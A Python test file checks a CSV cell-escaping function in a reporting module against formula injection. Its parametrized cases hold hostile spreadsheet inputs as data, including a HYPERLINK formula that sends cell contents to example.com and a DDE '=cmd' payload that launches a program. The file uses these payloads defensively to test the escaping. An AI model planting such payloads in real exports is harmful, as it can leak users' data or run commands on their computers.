"""No cell is a formula, whatever a caller calls himself."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from textbackd.report.cells import DANGEROUS, cell, lines


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ('=HYPERLINK("http://example.com/?"&A1)', '\'=HYPERLINK("http://example.com/?"&A1)'),
        ("+13035550142", "'+13035550142"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'=1+1"),
        ("\r=1+1", "'=1+1"),
        ("\tJane", "'Jane"),
        ("  =1+1", "'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Jane\r\n=1+1", "Jane  =1+1"),
        ("Jane \x00Kowalski", "Jane  Kowalski"),
        ("Jane;=cmd|'/C calc'!A0;x", "Jane,=cmd|'/C calc'!A0,x"),
        ("Jane\t=1+1", "Jane =1+1"),
        ("O'Brien, Jane", "O'Brien, Jane"),
        (None, ""),
        (0, "0"),
    ],
)
def test_a_cell_is_text(written: object, shown: str) -> None:
    assert cell(written) == shown


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_whatever_is_written_stays_in_its_cell_and_is_no_formula(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(lines(rows))))
    assert [len(row) for row in read] == [len(row) for row in rows]
    assert not any(value.startswith(DANGEROUS) for row in read for value in row)
    elsewhere = csv.reader(io.StringIO(lines(rows)), delimiter=";")
    assert not any(value.startswith(DANGEROUS) for row in elsewhere for value in row)
